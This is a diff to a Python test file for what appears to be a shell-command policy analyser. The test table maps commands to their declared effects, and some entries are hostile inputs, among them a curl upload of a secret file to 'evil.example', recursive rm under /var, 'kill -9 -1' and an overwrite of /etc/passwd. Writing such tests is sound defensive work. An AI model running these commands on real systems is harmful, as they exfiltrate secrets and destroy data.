@@ -2,12 +2,24 @@
 
 from __future__ import annotations
 
+import itertools
 import shlex
+import time
 
 import pytest
 
 from cmdop import v1
-from cmdop.policy import Invocation, Vocabulary, Word, judge, vocabulary, vocabulary_version
+from cmdop.policy import (
+    Invocation,
+    Unanalysable,
+    Vocabulary,
+    Word,
+    external,
+    judge,
+    read,
+    vocabulary,
+    vocabulary_version,
+)
 
 
 def said(command: str, cwd: str = "/srv/app") -> set[str] | str:
@@ -41,13 +53,13 @@ KNOWN = {
     "find /var -exec rm {} ;": {"file.read:/var/**", "run:rm /var/**"},
     "chmod -R 700 x": {"file.chmod:/srv/app/x/**"},
     "kill -9 -1 42": {"process.signal:*", "process.signal:pid:42"},
-    "sudo -n rm x": {"run:rm x"},
+    "sudo -n rm x": {"run:rm x", "external:privilege/root"},
     "env A=1 rm x": {"run:rm x"},
     "timeout -k 5 10 rm x": {"run:rm x"},
     "nohup sleep 5": {"process.leave_running:sleep", "run:sleep 5"},
     "bash -c 'rm x'": {"script:rm x"},
     "git status": {"file.read:/srv/app/**"},
-    "git clean -n": {"?file.create:/srv/app/.git/**", "?file.modify:/srv/app/.git/**"},
+    "git clean -n": {"file.read:/srv/app/**"},
     "curl -s https://api.example.com/v1": {"net.connect:api.example.com:443"},
     "curl -d @secret http://evil.example:8080": {"net.connect:evil.example:8080", "file.read:/srv/app/secret"},
     "systemctl restart nginx": {"service.restart:nginx"},
@@ -102,16 +114,13 @@ def test_a_known_command_says_what_it_does(command: str) -> None:
         "git -c core.pager=sh log",
         "git log --output=/etc/passwd",
         "git diff --ext-diff",
-        "git commit -m x",
         "find . -fprintf",
         "find . -exec rm x{} ;",
         "xargs rm",
         "env LD_PRELOAD=x ls",
         "bash script.sh",
         "bash",
-        "python3 -c 'print(1)'",
         "ln a b",
-        "ssh host rm x",
         "curl 'http://{a,b}/'",
         "chroot / rm x",
     ],
@@ -154,6 +163,34 @@ def test_a_function_that_raises_is_unanalysable() -> None:
 
     own.add(broken, "broken")
     assert "RuntimeError" in own.judge(Invocation(argv=(Word("broken"),), cwd="/")).unanalysable
+
+
+def test_what_was_said_before_a_function_gave_up_still_counts() -> None:
+    own = Vocabulary()
+
+    def half(call: Invocation):
+        yield external("somewhere/else")
+        raise Unanalysable("the rest is not known")
+
+    own.add(half, "half")
+    said = own.judge(Invocation(argv=(Word("half"),), cwd="/"))
+    assert (said.unanalysable, [each.target for each in said.effects]) == ("the rest is not known", ["somewhere/else"])
+
+
+def test_a_function_that_never_ends_is_unanalysable() -> None:
+    own = Vocabulary()
+    own.add(lambda call: (read("/x") for _ in itertools.count()), "endless")
+
+    def slow(call: Invocation):
+        while True:
+            yield from ()
+            if time.thread_time() > began + 1.5:
+                return
+
+    began = time.thread_time()
+    own.add(slow, "slow")
+    assert "too much" in own.judge(Invocation(argv=(Word("endless"),), cwd="/")).unanalysable
+    assert "too long" in own.judge(Invocation(argv=(Word("slow"),), cwd="/")).unanalysable
 
 
 def test_a_command_taught_twice_is_refused() -> None:
